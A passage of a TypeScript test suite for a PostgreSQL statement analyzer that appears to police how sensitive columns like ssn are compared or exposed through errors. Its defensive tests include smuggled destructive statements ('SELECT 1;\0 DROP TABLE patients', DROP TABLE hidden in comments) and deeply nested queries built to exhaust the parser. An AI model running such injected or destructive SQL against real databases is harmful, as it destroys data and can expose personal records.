    columns: ['*', 'k', 'ssn', 'x', 'y', 'z'],
    predicates: ['*', 'k', 'ssn', 'x', 'y', 'z'],
    functions: ['lower'],
  },
  {
    sql: 'SELECT a, b FROM t UNION ALL SELECT c, u.* FROM u ORDER BY 2',
    kinds: ['select'],
    relations: ['t', 'u'],
    columns: ['a', 'b', 'c', 'u.*'],
    predicates: ['b', 'u.*'],
  },
  // CTEs and data-modifying CTEs: WHERE counts, RETURNING and SET targets do not.
  {
    sql: "WITH c AS (SELECT ssn FROM patients WHERE zip = '10001') SELECT ssn FROM c",
    kinds: ['select'],
    relations: ['patients'],
    columns: ['ssn', 'zip'],
    predicates: ['zip'],
  },
  {
    sql: "WITH d AS (DELETE FROM patients WHERE dob < '1900-01-01' RETURNING ssn) SELECT ssn FROM d",
    kinds: ['select', 'delete'],
    relations: ['>patients'],
    columns: ['dob', 'ssn'],
    predicates: ['dob'],
  },
  {
    sql: "WITH u AS (UPDATE patients SET ssn = '000' WHERE name = 'x' RETURNING id) SELECT * FROM u WHERE id > 1",
    kinds: ['select', 'update'],
    relations: ['>patients'],
    columns: ['*', 'id', 'name', 'patients.ssn'],
    predicates: ['id', 'name'],
  },
  // UPDATE / DELETE / INSERT / MERGE: their WHERE and ON conditions, not their targets, SET lists or RETURNING.
  {
    sql: "UPDATE patients SET ssn = lower(name) WHERE zip = '1' RETURNING dob",
    kinds: ['update'],
    relations: ['>patients'],
    columns: ['dob', 'name', 'patients.ssn', 'zip'],
    predicates: ['zip'],
    functions: ['lower'],
  },
  {
    sql: 'UPDATE patients p SET name = v.n FROM visits v JOIN labs l ON l.vid = v.id WHERE v.pid = p.id',
    kinds: ['update'],
    relations: ['>patients p', 'labs l', 'visits v'],
    columns: ['l.vid', 'p.id', 'p.name', 'v.id', 'v.n', 'v.pid'],
    predicates: ['l.vid', 'p.id', 'v.id', 'v.pid'],
  },
  {
    sql: "DELETE FROM patients WHERE ssn = '123-45-6789' RETURNING name",
    kinds: ['delete'],
    relations: ['>patients'],
    columns: ['name', 'ssn'],
    predicates: ['ssn'],
  },
  {
    sql: 'INSERT INTO patients (ssn, name) SELECT ssn, name FROM staging WHERE ok',
    kinds: ['insert', 'select'],
    relations: ['>patients', 'staging'],
    columns: ['name', 'ok', 'patients.name', 'patients.ssn', 'ssn'],
    predicates: ['ok'],
  },
  {
    sql: "INSERT INTO patients (ssn) VALUES ('1') ON CONFLICT (ssn) WHERE active DO UPDATE SET name = 'x' WHERE patients.dob > '2000-01-01'",
    kinds: ['insert', 'update'],
    relations: ['>patients'],
    columns: ['active', 'patients.dob', 'patients.name', 'patients.ssn'],
    predicates: ['active', 'patients.dob'],
  },
  {
    sql: 'MERGE INTO patients p USING staging s ON p.ssn = s.ssn WHEN MATCHED AND s.dob <> p.dob THEN UPDATE SET name = s.name WHEN NOT MATCHED THEN INSERT (ssn) VALUES (s.ssn)',
    kinds: ['merge', 'update', 'insert'],
    relations: ['>patients p', 'staging s'],
    columns: ['p.dob', 'p.name', 'p.ssn', 's.dob', 's.name', 's.ssn'],
    predicates: ['p.dob', 'p.ssn', 's.dob', 's.ssn'],
  },
  // Nested levels, whole-row references, statements that wrap a query.
  {
    sql: "SELECT name FROM patients WHERE EXISTS (SELECT 1 FROM visits WHERE visits.pid = patients.id AND CASE WHEN visits.code = 'x' THEN true END)",
    kinds: ['select'],
    relations: ['patients', 'visits'],
    columns: ['name', 'patients.id', 'visits.code', 'visits.pid'],
    predicates: ['patients.id', 'visits.code', 'visits.pid'],
  },
  {
    sql: 'SELECT (SELECT max(dob) FROM visits v WHERE v.pid = p.id ORDER BY v.at LIMIT 1) FROM patients p',
    kinds: ['select'],
    relations: ['patients p', 'visits v'],
    columns: ['dob', 'p.id', 'v.at', 'v.pid'],
    predicates: ['dob', 'p.id', 'v.at', 'v.pid'],
    functions: ['max'],
  },
  {
    sql: 'SELECT 1 FROM patients p WHERE p IS NOT NULL ORDER BY p.*',
    kinds: ['select'],
    relations: ['patients p'],
    columns: ['p', 'p.*'],
    predicates: ['p', 'p.*'],
  },
  {
    sql: "DECLARE c CURSOR FOR SELECT name FROM patients WHERE ssn > '5'",
    kinds: ['select'],
    relations: ['patients'],
    columns: ['name', 'ssn'],
    predicates: ['ssn'],
  },
  {
    sql: "COPY (SELECT name FROM patients WHERE ssn LIKE '1%') TO STDOUT",
    kinds: ['copy_out', 'select'],
    relations: ['patients'],
    columns: ['name', 'ssn'],
    predicates: ['ssn'],
  },
  // CTE SEARCH orders by its columns, CYCLE compares them.
  {
    sql: 'EXPLAIN SELECT name FROM patients ORDER BY ssn',
    kinds: ['utility', 'select'],
    relations: ['patients'],
    columns: ['name', 'ssn'],
    predicates: ['ssn'],
  },
  {
    sql: 'WITH RECURSIVE t(a, b) AS (SELECT 1, 2 UNION ALL SELECT a + 1, b FROM t WHERE a < 3) SEARCH BREADTH FIRST BY b SET ord CYCLE a SET seen USING path SELECT * FROM t',
    kinds: ['select'],
    columns: ['*', 'a', 'b'],
    predicates: ['a', 'b'],
  },
  {
    sql: "SELECT * FROM (SELECT * FROM (SELECT name FROM patients WHERE ssn = '1') a ORDER BY name) b WHERE b.name > 'a'",
    kinds: ['select'],
    relations: ['patients'],
    columns: ['*', 'b.name', 'name', 'ssn'],
    predicates: ['b.name', 'name', 'ssn'],
  }, // ---- comparisons without a comparison operator: set operations, DISTINCT, comparing functions ----
  // UNION ALL only appends; every other set operation matches rows, so the output columns of all its branches
  // (expressions and subqueries in them too) are compared, at any depth.
  {
    sql: 'SELECT ssn FROM patients UNION ALL SELECT zip FROM archive',
    kinds: ['select'],
    relations: ['archive', 'patients'],
    columns: ['ssn', 'zip'],
    failables: [],
  },
  {
    sql: "SELECT lower(ssn) FROM patients INTERSECT ALL SELECT '123-45-6789'",
    kinds: ['select'],
    relations: ['patients'],
    columns: ['ssn'],
    predicates: ['ssn'],
    functions: ['lower'],
  },
  {
    sql: "(SELECT ssn FROM patients UNION ALL SELECT zip FROM archive) EXCEPT SELECT 'x'",
    kinds: ['select'],
    relations: ['archive', 'patients'],
    columns: ['ssn', 'zip'],
    predicates: ['ssn', 'zip'],
  },
  {
    sql: 'SELECT ssn FROM patients UNION ALL (SELECT zip FROM archive INTERSECT SELECT code FROM labs)',
    kinds: ['select'],
    relations: ['archive', 'labs', 'patients'],
    columns: ['code', 'ssn', 'zip'],
    predicates: ['code', 'zip'],
  },
  {
    sql: "SELECT (SELECT ssn FROM patients LIMIT 1) INTERSECT SELECT 'x'",
    kinds: ['select'],
    relations: ['patients'],
    columns: ['ssn'],
    predicates: ['ssn'],
  },
  {
    sql: "WITH g AS (SELECT name AS s FROM patients UNION SELECT 'x') SELECT s FROM g",
    kinds: ['select'],
    relations: ['patients'],
    columns: ['name', 's'],
    predicates: ['name'],
  },
  {
    sql: "SELECT n FROM (SELECT DISTINCT name AS n FROM patients) d WHERE EXISTS (SELECT ssn FROM visits EXCEPT SELECT 'x')",
    kinds: ['select'],
    relations: ['patients', 'visits'],
    columns: ['n', 'name', 'ssn'],
    predicates: ['name', 'ssn'],
  },
  // The subquery of IN / ANY / ALL is compared with the tested value, in the select list too.
  {
    sql: "SELECT '123-45-6789' IN (SELECT ssn FROM patients), 'x' = ANY (SELECT name FROM patients), EXISTS (SELECT dob FROM patients)",
    kinds: ['select'],
    relations: ['patients'],
    columns: ['dob', 'name', 'ssn'],
    predicates: ['name', 'ssn'],
  },
  {
    sql: 'SELECT count(DISTINCT ssn), array_agg(DISTINCT zip), count(name) FROM patients',
    kinds: ['select'],
    relations: ['patients'],
    columns: ['name', 'ssn', 'zip'],
    predicates: ['ssn', 'zip'],
    functions: ['array_agg', 'count'],
    failables: [],
  },
  {
    sql: "SELECT strpos(ssn, '12'), position('1' IN name), starts_with(zip, '1'), greatest(dob, now()), least(phone, 'z'), min(email), max(id) FROM patients",
    kinds: ['select'],
    relations: ['patients'],
    columns: ['dob', 'email', 'id', 'name', 'phone', 'ssn', 'zip'],
    predicates: ['dob', 'email', 'id', 'name', 'phone', 'ssn', 'zip'],
    functions: ['max', 'min', 'now', 'pg_catalog.position', 'starts_with', 'strpos'],
  },
  {
    sql: "SELECT regexp_match(ssn, '^1'), regexp_count(name, 'a'), ssn ^@ '1', to_jsonb(p) ->> 'ssn' FROM patients p",
    kinds: ['select'],
    relations: ['patients p'],
    columns: ['name', 'p', 'ssn'],
    predicates: ['name', 'p', 'ssn'],
    functions: ['regexp_count', 'regexp_match', 'to_jsonb'],
  },
  // A reference to a column of a subquery, CTE, VALUES list, join alias or renamed table stands for the
  // references behind it.
  {
    sql: "SELECT s FROM (SELECT ssn AS s FROM patients) t WHERE s LIKE '1%'",
    kinds: ['select'],
    relations: ['patients'],
    columns: ['s', 'ssn'],
    predicates: ['s', 'ssn'],
  },
  {
    sql: "WITH c(x) AS (SELECT ssn FROM patients) SELECT 1 FROM c WHERE c.x = '1'",
    kinds: ['select'],
    relations: ['patients'],
    columns: ['c.x', 'ssn'],
    predicates: ['c.x', 'ssn'],
  },
  {
    sql: "WITH c AS (SELECT p.ssn FROM patients p) SELECT 1 FROM c x WHERE x.ssn = '1'",
    kinds: ['select'],
    relations: ['patients p'],
    columns: ['p.ssn', 'x.ssn'],
    predicates: ['c.ssn', 'p.ssn', 'x.ssn'],
  },
  {
    sql: 'SELECT * FROM (SELECT * FROM patients) t WHERE t.id = 1',
    kinds: ['select'],
    relations: ['patients'],
    columns: ['*', 't.id'],
    predicates: ['id', 't.id'],
  },
  {
    sql: "SELECT 1 FROM patients p(a, b) WHERE b = '1'",
    kinds: ['select'],
    relations: ['patients p'],
    columns: ['b'],
    predicates: ['b', 'p.*'],
  },
  {
    sql: "SELECT 1 FROM (patients JOIN visits USING (id)) j WHERE j.ssn > '1'",
    kinds: ['select'],
    relations: ['patients', 'visits'],
    columns: ['id', 'j.ssn'],
    predicates: ['id', 'j.ssn', 'ssn'],
  },
  {
    sql: "SELECT 1 FROM (VALUES ((SELECT ssn FROM patients LIMIT 1))) v(x) WHERE x = '1'",
    kinds: ['select'],
    relations: ['patients'],
    columns: ['ssn', 'x'],
    predicates: ['ssn', 'x'],
  },
  {
    sql: "SELECT y FROM (SELECT name FROM patients UNION ALL SELECT ssn FROM archive) u(y) WHERE u.y = 'x'",
    kinds: ['select'],
    relations: ['archive', 'patients'],
    columns: ['name', 'ssn', 'u.y', 'y'],
    predicates: ['name', 'ssn', 'u.y'],
  },
  // ---- values that may raise an error (failableColumns): only total constructs lead to an output column ----
  {
    sql: 'SELECT 1 / (length(ssn) - 11), zip::int, substr(name, 1, 1)::int / 0 FROM patients WHERE id = 5',
    kinds: ['select'],
    relations: ['patients'],
    columns: ['id', 'name', 'ssn', 'zip'],
    predicates: ['id'],
    functions: ['length', 'substr'],
    failables: ['name', 'ssn', 'zip'],
  },
  {
    sql: "SELECT to_date(ssn, 'YYYY'), (dob)::numeric, left(name, length(email) - 20), sum(length(phone)), ssn::bytea, ssn::json, zip::text[] FROM patients GROUP BY 1",
    kinds: ['select'],
    relations: ['patients'],
    columns: ['dob', 'email', 'name', 'phone', 'ssn', 'zip'],
    predicates: ['ssn'],
    functions: ['left', 'length', 'sum', 'to_date'],
    failables: ['dob', 'email', 'phone', 'ssn', 'zip'],
  },
  {
    sql: "SELECT ssn, p.ssn AS x, p, (p).name, ssn || 'x', ssn::text, ssn::varchar(3), ssn::char(11), name COLLATE \"C\", lower(ssn), pg_catalog.upper(name), length(ssn), md5(ssn), concat(ssn, name), concat_ws('-', ssn), format('%s %L %%', ssn, name), row_to_json(p), to_jsonb(p), json_build_object('s', ssn), ARRAY[ssn], ROW(ssn, name), coalesce(ssn, ''), CASE WHEN id = 1 THEN ssn ELSE name END, substring(ssn FROM 1 FOR 3), left(ssn, 3), replace(ssn, '-', ' '), regexp_replace(ssn, '\\D', '', 'g'), lpad(ssn, 20, name) FROM patients p",
    kinds: ['select'],
    relations: ['patients p'],
    columns: ['id', 'name', 'p', 'p.ssn', 'ssn'],
    predicates: ['id'],
    functions: [
      'concat',
      'concat_ws',
      'format',
      'json_build_object',
      'left',
      'length',
      'lower',
      'lpad',
      'md5',
      'pg_catalog.substring',
      'pg_catalog.upper',
      'regexp_replace',
      'replace',
      'row_to_json',
      'to_jsonb',
    ],
    failables: [],
  },
  {
    sql: "SELECT count(ssn), array_agg(ssn), string_agg(name, ','), json_agg(p), lag(ssn, 1, 'x') OVER (ORDER BY id), nth_value(ssn, 2) OVER () FROM patients p",
    kinds: ['select'],
    relations: ['patients p'],
    columns: ['id', 'p', 'ssn', 'name'],
    predicates: ['id'],
    functions: ['array_agg', 'count', 'json_agg', 'lag', 'nth_value', 'string_agg'],
    failables: [],
  },
  // An argument that is not the value a function carries may make it fail: a key, a format, an offset, a pattern.
  {
    sql: "SELECT json_build_object(ssn, 1), format(name), format('%I', zip), format('%*s', dob, 'x'), lag(id, length(email)) OVER (ORDER BY id), substring(phone FROM '\\d+'), regexp_replace(id::text, diagnosis, '') FROM patients",
    kinds: ['select'],
    relations: ['patients'],
    columns: ['diagnosis', 'dob', 'email', 'id', 'name', 'phone', 'ssn', 'zip'],
    predicates: ['id'],
    functions: ['format', 'json_build_object', 'lag', 'length', 'pg_catalog.substring', 'regexp_replace'],
    // id too: with a pattern that is not a constant, regexp_replace is not known total for any argument.
    failables: ['diagnosis', 'dob', 'email', 'id', 'name', 'phone', 'ssn', 'zip'],
  },
  // A call that multiplies the value's size by a factor the statement chooses reaches the 1 GB limit for some
  // values only: repeat (by length), a replacement longer than what it replaces (by content).
  {
    sql: "SELECT repeat(ssn, 97612894), replace(name, '1', '11'), regexp_replace(zip, '1', 'x'), replace(dob::text, '-', ''), regexp_replace(email, '@', '', 'g') FROM patients",
    kinds: ['select'],
    relations: ['patients'],
    columns: ['dob', 'email', 'name', 'ssn', 'zip'],
    functions: ['regexp_replace', 'repeat', 'replace'],
    failables: ['name', 'ssn', 'zip'],
  },
  // A function not known total, a user's own included, and anything schema-qualified outside pg_catalog.
  {
    sql: 'SELECT public.lower(ssn), mk_fn(name), pg_notify(zip, dob::text) FROM patients',
    kinds: ['select'],
    relations: ['patients'],
    columns: ['dob', 'name', 'ssn', 'zip'],
    functions: ['mk_fn', 'pg_notify', 'public.lower'],
    failables: ['dob', 'name', 'ssn', 'zip'],
  },
  // A subquery's output flows where the subquery stands: into the division, or into a function in FROM.
  {
    sql: 'SELECT (SELECT ssn FROM patients LIMIT 1), length((SELECT name FROM patients LIMIT 1)) / 0',
    kinds: ['select'],
    relations: ['patients'],
    columns: ['name', 'ssn'],
    functions: ['length'],
    failables: ['name'],
  },
  {
    sql: 'SELECT * FROM generate_series(1, length((SELECT ssn FROM patients LIMIT 1))), patients p, unnest(ARRAY[p.name]) u',
    kinds: ['select'],
    relations: ['patients', 'patients p'],
    columns: ['*', 'p.name', 'ssn'],
    functions: ['generate_series', 'length', 'unnest'],
    failables: ['p.name', 'ssn'],
  },
  {
    sql: 'SELECT * FROM (VALUES (1 / length((SELECT ssn FROM patients LIMIT 1)), (SELECT name FROM patients LIMIT 1))) v',
    kinds: ['select'],
    relations: ['patients'],
    columns: ['*', 'name', 'ssn'],
    functions: ['length'],
    failables: ['ssn'],
  },
  // Through a subquery, CTE or whole-row reference in FROM, to the column behind it. A lone name may also be a
  // column of x, which is c: c.s and c.name (no such columns, judged harmless by the rules).
  {
    sql: 'WITH c AS (SELECT ssn FROM patients) SELECT s::int, t::text, x.ssn / 2 FROM (SELECT name AS s FROM patients) t, c x',
    kinds: ['select'],
    relations: ['patients'],
    columns: ['name', 's', 'ssn', 't', 'x.ssn'],
    failables: ['c.name', 'c.s', 'c.ssn', 'name', 's', 'ssn', 'x.ssn'],
  },
  // RETURNING is an output list like a select list; a predicate is judged as one, not as a failable use.
  {
    sql: 'DELETE FROM visits WHERE note::int > 5 RETURNING note, lower(note), code::int',
    kinds: ['delete'],
    relations: ['>visits'],
    columns: ['code', 'note'],
    predicates: ['note'],
    functions: ['lower'],
    failables: ['code'],
  },
];

describe('analyzeSql: statements to facts', () => {
  it('has a thorough table', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(60);
  });

  for (const c of CASES) {
    it(c.sql.length > 100 ? c.sql.slice(0, 97) + '...' : c.sql, () => {
      const f = only(c.sql);
      expect(f.kind).toBe(c.kinds[0]);
      expect(f.kinds[0]).toBe(c.kinds[0]);
      expect([...f.kinds].sort()).toEqual([...c.kinds].sort());
      expect(new Set(f.kinds).size).toBe(f.kinds.length);
      expect(relationsOf(f)).toEqual([...(c.relations ?? [])].sort());
      expect(columnsOf(f)).toEqual([...(c.columns ?? [])].sort());
      expect(predicatesOf(f)).toEqual([...(c.predicates ?? [])].sort());
      if (c.failables !== undefined) expect(failablesOf(f)).toEqual([...c.failables].sort());
      expect(functionsOf(f)).toEqual([...(c.functions ?? [])].sort());
      expect(guardsOf(f)).toEqual([...(c.guard ?? [])].sort());
      if (c.setting !== undefined) expect(f.setting).toEqual(c.setting);
      if (c.command !== undefined) expect(f.command).toBe(c.command);
      if (f.command !== 'VariableSetStmt') expect(f.setting).toBeNull();
    });
  }
});

describe('statementFactsOf: node types a later PostgreSQL may add', () => {
  const rangeVar = (relname: string, schemaname?: string) => ({
    RangeVar: { relname, schemaname, inh: true },
  });

  it('counts an unknown statement as DDL and still searches inside it', () => {
    const f = statementFactsOf({
      stmt: {
        FutureStmt: {
          target: { relname: 'patients', schemaname: 'public' }, // a bare struct with relname: a RangeVar
          options: [{ FutureExpr: { arg: { ColumnRef: { fields: [{ String: { sval: 'ssn' } }] } } } }],
          source: {
            FutureClause: {
              items: [rangeVar('visits')],
              fn: { FuncCall: { funcname: [{ String: { sval: 'leak' } }] } },
            },
          },
        },
      },
      stmt_location: 3,
      stmt_len: 7,
    });
    expect(f.kind).toBe('ddl');
    expect(f.kinds).toEqual(['ddl']);
    expect(f.command).toBe('FutureStmt');
    expect(f.guard.ddl).toBe(true);
    expect(relationsOf(f)).toEqual(['public.patients', 'visits']);
    expect(columnsOf(f)).toEqual(['ssn']);
    expect(functionsOf(f)).toEqual(['leak']);
    expect([f.location, f.length]).toEqual([3, 7]);
  });

  it('adds DDL for an unknown statement nested in a known one, and reads unknown column parts as a star', () => {
    const f = statementFactsOf({
      stmt: {
        SelectStmt: {
          targetList: [
            {
              ResTarget: { val: { ColumnRef: { fields: [{ String: { sval: 'p' } }, { FutureStar: {} }] } } },
            },
          ],
          fromClause: [rangeVar('patients')],
          futureClause: { NewSideEffectStmt: { relation: { relname: 'audit' } } },
          op: 'SETOP_NONE',
        },
      },
    });
    expect(f.kinds).toEqual(['select', 'ddl']);
    expect(f.guard.ddl).toBe(true);
    expect(relationsOf(f)).toEqual(['audit', 'patients']);
    expect(columnsOf(f)).toEqual(['p.*']);
  });

  it("searches an unknown node inside a WHERE for predicate columns, and any node's WHERE", () => {
    const ssn = { ColumnRef: { fields: [{ String: { sval: 'ssn' } }] } };
    const name = { ColumnRef: { fields: [{ String: { sval: 'name' } }] } };
    const select = statementFactsOf({
      stmt: {
        SelectStmt: {
          targetList: [{ ResTarget: { val: { FutureExpr: { arg: name } } } }],
          fromClause: [rangeVar('patients')],
          whereClause: { FutureExpr: { args: [{ FuturePart: { inner: ssn } }] } },
          op: 'SETOP_NONE',
        },
      },
    });
    expect(columnsOf(select)).toEqual(['name', 'ssn']);
    expect(predicatesOf(select)).toEqual(['ssn']);
    // An unknown node in the select list may raise anything: what it computes with is failable.
    expect(failablesOf(select)).toEqual(['name']);

    const future = statementFactsOf({
      stmt: { FutureStmt: { relation: rangeVar('patients'), whereClause: ssn, returning: [name] } },
    });
    expect(predicatesOf(future)).toEqual(['ssn']);
  });

  it('reads a missing or malformed statement as DDL', () => {
    for (const raw of [{}, { stmt: null }, { stmt: { a: 1, b: 2 } }, null, 42]) {
      const f = statementFactsOf(raw);
      expect(f.kind).toBe('ddl');
      expect(f.guard.ddl).toBe(true);
    }
  });
});

describe('analyzeSql: why a column is a predicate or a failable use (for the refusal message)', () => {
  const useOf = (sql: string, name: string) => only(sql).predicateColumns.find((c) => c.name === name)?.use;
  const constructOf = (sql: string, name: string) =>
    only(sql).failableColumns.find((c) => c.name === name)?.construct;

  it('names the clause or construct that compares', () => {
    expect(useOf("SELECT ssn FROM p WHERE ssn LIKE '1%'", 'ssn')).toBe('WHERE');
    expect(useOf('SELECT ssn FROM p ORDER BY 1', 'ssn')).toBe('ORDER BY');
    expect(useOf('SELECT lower(ssn) AS k, count(*) FROM p GROUP BY k', 'ssn')).toBe('GROUP BY');
    expect(useOf("SELECT ssn FROM p INTERSECT SELECT '123-45-6789'", 'ssn')).toBe('INTERSECT');
    expect(useOf("SELECT ssn FROM p EXCEPT ALL SELECT 'x'", 'ssn')).toBe('EXCEPT ALL');
    expect(useOf("SELECT ssn FROM p UNION SELECT 'x'", 'ssn')).toBe('UNION');
    expect(useOf('SELECT DISTINCT ssn FROM p', 'ssn')).toBe('SELECT DISTINCT');
    expect(useOf('SELECT count(DISTINCT ssn) FROM p', 'ssn')).toBe('an aggregate DISTINCT');
    expect(useOf("SELECT strpos(ssn, '12') FROM p", 'ssn')).toBe('strpos(), which compares its arguments');
    expect(useOf('SELECT min(ssn) FROM p', 'ssn')).toBe('min(), which compares its arguments');
    expect(useOf("SELECT greatest(ssn, '5') FROM p", 'ssn')).toBe('GREATEST / LEAST');
    expect(useOf("SELECT '1' IN (SELECT ssn FROM p)", 'ssn')).toBe('IN / ANY / ALL (subquery)');
    expect(useOf("SELECT ssn = 'x' FROM p", 'ssn')).toBe('a comparison (=)');
    expect(useOf("SELECT ssn NOT LIKE 'x' FROM p", 'ssn')).toBe('a comparison (LIKE)');
    expect(useOf('SELECT percentile_disc(0.5) WITHIN GROUP (ORDER BY ssn) FROM p', 'ssn')).toBe(
      'WITHIN GROUP (ORDER BY)',
    );
    // Through a derived column, the use of the reference that named it.
    expect(useOf("SELECT s FROM (SELECT ssn AS s FROM p) t WHERE s > '1'", 'ssn')).toBe('WHERE');
  });

  it('names the innermost construct a failable value reaches', () => {
    expect(constructOf('SELECT 1 / (length(ssn) - 11) FROM p WHERE id = 5', 'ssn')).toBe('the operator -');
    expect(constructOf('SELECT ssn::int FROM p', 'ssn')).toBe('a cast to int4');
    expect(constructOf('SELECT ssn::text[] FROM p', 'ssn')).toBe('a cast to text[]');
    expect(constructOf("SELECT to_date(ssn, 'YYYY') FROM p", 'ssn')).toBe('to_date()');
    expect(constructOf('SELECT * FROM generate_series(1, length((SELECT ssn FROM p LIMIT 1)))', 'ssn')).toBe(
      'generate_series()',
    );
    expect(constructOf('SELECT * FROM lower((SELECT ssn FROM p LIMIT 1))', 'ssn')).toBe('a function in FROM');
    expect(constructOf('SELECT s::int FROM (SELECT ssn AS s FROM p) t', 'ssn')).toBe('a cast to int4');
  });

  it('counts a subquery returned as it is as no computation, and one computed with as one', () => {
    expect(only('SELECT (SELECT ssn FROM p LIMIT 1) AS s').expressionColumns).toEqual([]);
    expect(only('SELECT lower((SELECT ssn FROM p LIMIT 1))').expressionColumns.map((c) => c.name)).toEqual([
      'ssn',
    ]);
  });
});

describe('analyzeSql: failable columns of random expressions', () => {
  // A column wrapped in total constructs only reaches its output column without ever raising an error; one
  // construct that is not total, anywhere on the way, makes it failable.
  const TOTAL_WRAPPERS = [
    (x: string) => `lower(${x})`,
    (x: string) => `(${x} || 'a')`,
    (x: string) => `('a' || ${x})`,
    (x: string) => `(${x})::text`,
    (x: string) => `CAST(${x} AS varchar(4))`,
    (x: string) => `concat('a', ${x})`,
    (x: string) => `coalesce(${x}, '')`,
    (x: string) => `ROW(${x}, 1)`,
    (x: string) => `ARRAY[${x}]`,
    (x: string) => `json_build_object('k', ${x})`,
    (x: string) => `format('%s-%L', ${x}, 'b')`,
    (x: string) => `left(${x}, 3)`,
    (x: string) => `CASE WHEN id = 1 THEN ${x} END`,
    (x: string) => `(SELECT ${x})`,
  ];
  const FAILABLE_WRAPPERS = [
    (x: string) => `(${x})::int`,
    (x: string) => `(${x}) / 2`,
    (x: string) => `length(${x}) - 1`,
    (x: string) => `to_number(${x}, '9')`,
    (x: string) => `sum(length(${x}))`,
    (x: string) => `json_build_object(${x}, 1)`,
    (x: string) => `format(${x})`,
    (x: string) => `mk_fn(${x})`,
  ];
  const wrap = (x: string, wrappers: readonly ((x: string) => string)[]) =>
    wrappers.reduce((inner, w) => w(inner), x);
  const totals = fc.array(fc.constantFrom(...TOTAL_WRAPPERS), { maxLength: 6 });

  it('are none through total constructs, and the column with one failable construct anywhere', () => {
    fc.assert(
      fc.property(totals, totals, fc.constantFrom(...FAILABLE_WRAPPERS), (inner, outer, failable) => {
        const clean = only(`SELECT ${wrap('ssn', [...inner, ...outer])} FROM patients`);
        expect(failablesOf(clean)).toEqual([]);
        const tainted = only(`SELECT ${wrap('ssn', [...inner, failable, ...outer])} FROM patients`);
        expect(failablesOf(tainted)).toEqual(['ssn']);
      }),
      { numRuns: 300 },
    );
  });
});

describe('analyzeSql: statement boundaries', () => {
  it('returns one facts per statement with byte locations', () => {
    const sql = "SELECT 1; DROP TABLE x ;SELECT 'é' FROM y";
    const statements = analyze(sql);
    expect(statements.map((s) => s.kind)).toEqual(['select', 'ddl', 'select']);
    expect(statements.map((s) => s.command)).toEqual(['SelectStmt', 'DropStmt', 'SelectStmt']);
    const bytes = Buffer.from(sql);
    const texts = statements.map((s) =>
      bytes.subarray(s.location, s.length === 0 ? bytes.length : s.location + s.length).toString(),
    );
    expect(texts).toEqual(['SELECT 1', ' DROP TABLE x ', "SELECT 'é' FROM y"]);
    expect(statements[1].guard.ddl).toBe(true);
    expect(statements[0].guard.ddl).toBe(false);
    expect(relationsOf(statements[2])).toEqual(['y']);
  });

  it('keeps a statement hidden in a comment or a string inside one statement', () => {
    expect(analyze('SELECT 1 -- ; DROP TABLE x')).toHaveLength(1);
    expect(analyze('SELECT $q$ ; DROP TABLE x; $q$')).toHaveLength(1);
    expect(analyze('SELECT 1 /* ; DROP TABLE x */; SELECT 2')).toHaveLength(2);
  });

  it('returns zero statements for empty text, whitespace, comments and bare semicolons', () => {
    for (const sql of ['', '   \n\t', '-- nothing here', '/* block */', '/* a */ ; -- b\n;']) {
      const result = analyzeSql(sql);
      expect(result).toEqual({ ok: true, statements: [] });
    }
  });

  it('skips empty statements between semicolons', () => {
    expect(analyze('SELECT 1;;; SELECT 2;').map((s) => s.kind)).toEqual(['select', 'select']);
  });
});

describe('analyzeSql: syntax errors', () => {
  it('reports PostgreSQL message and 1-based position', () => {
    expect(failureOf('SELECT 1 FROM')).toEqual({ message: 'syntax error at end of input', position: 14 });
    expect(failureOf('selec 1')).toEqual({ message: 'syntax error at or near "selec"', position: 1 });
  });

  it('does not let a comment join keywords', () => {
    expect(failureOf('DEL/**/ETE FROM patients')).toEqual({
      message: 'syntax error at or near "DEL"',
      position: 1,
    });
  });

  it('counts the position in characters after multi-byte text', () => {
    // 'é' is 2 bytes and '😀' 4 bytes (2 UTF-16 units), yet each is one character, as PostgreSQL counts.
    const sql = "SELECT 'é😀' FROM WHERE";
    expect(failureOf(sql)).toEqual({ message: 'syntax error at or near "WHERE"', position: 18 });
    expect([...sql.slice(0, sql.indexOf('WHERE'))].length + 1).toBe(18);
  });

  it('reports position 0 when PostgreSQL gives none', () => {
    expect(failureOf("SELECT E'\\xff'")).toEqual({
      message: 'invalid byte sequence for encoding "UTF8": 0xff',
      position: 0,
    });
  });

  it('fails on unterminated quoting', () => {
    expect(failureOf('SELECT $$a').message).toMatch(/unterminated dollar-quoted string/);
    expect(failureOf("SELECT 'a").message).toMatch(/unterminated quoted string/);
    expect(failureOf('SELECT "a').message).toMatch(/unterminated quoted identifier/);
  });

  it('refuses a NUL character, which would end the text early for the parser', () => {
    expect(failureOf('SELECT 1;\0 DROP TABLE patients')).toEqual({
      message: 'query text contains a NUL character',
      position: 10,
    });
  });

  it('refuses an unpaired surrogate, which is not UTF-8', () => {
    expect(failureOf("SELECT 'é\ud800'").position).toBe(10);
  });

  it('treats a no-break space as PostgreSQL does (not whitespace)', () => {
    expect(failureOf('\u00a0').position).toBe(1);
  });
});

describe('analyzeSql: hostile input', () => {
  it('analyses statements nested thousands deep', () => {
    const sql = 'SELECT 1' + ' + x'.repeat(2500);
    const f = only(sql);
    expect(columnsOf(f)).toEqual(['x']);
    const subqueries =
      'SELECT * FROM t0 WHERE a IN ' + '(SELECT a FROM t WHERE a IN '.repeat(600) + '(1)' + ')'.repeat(600);
    expect(relationsOf(only(subqueries))).toEqual(['t', 't0']);
    expect(predicatesOf(only(subqueries))).toEqual(['a']);
    // An output name found through thousands of casts and hundreds of scalar subqueries.
    const casts = 'SELECT lower(ssn)' + '::text'.repeat(3000) + ' FROM p ORDER BY lower';
    expect(predicatesOf(only(casts))).toEqual(['lower', 'ssn']);
    const scalars = 'SELECT ' + '(SELECT '.repeat(400) + 'ssn AS k' + ')'.repeat(400) + ' FROM p ORDER BY k';
    expect(predicatesOf(only(scalars))).toEqual(['k', 'ssn']);
  });

  it('fails a statement too deep for the parser, then replaces the broken parser instance', async () => {
    const tooDeep = 'SELECT 1' + ' + 1'.repeat(150_000);
    expect(failureOf(tooDeep).message).toMatch(/^stack depth limit exceeded/);
    // The spare instance took over at once.
    expect(only('SELECT a FROM b').relations).toHaveLength(1);
    // A second failure before the replacement loaded leaves no instance: fail closed, and say it is transient.
    expect(failureOf(tooDeep).message).toMatch(/^stack depth limit exceeded/);
    const meanwhile = analyzeSql('SELECT a FROM b');
    expect(meanwhile.ok).toBe(false);
    expect(isTransientFailure(meanwhile)).toBe(true);
    await loadSqlParser();
    expect(relationsOf(only('SELECT a FROM b'))).toEqual(['b']);
  });

  it('rejects a statement too deep for the grammar', () => {
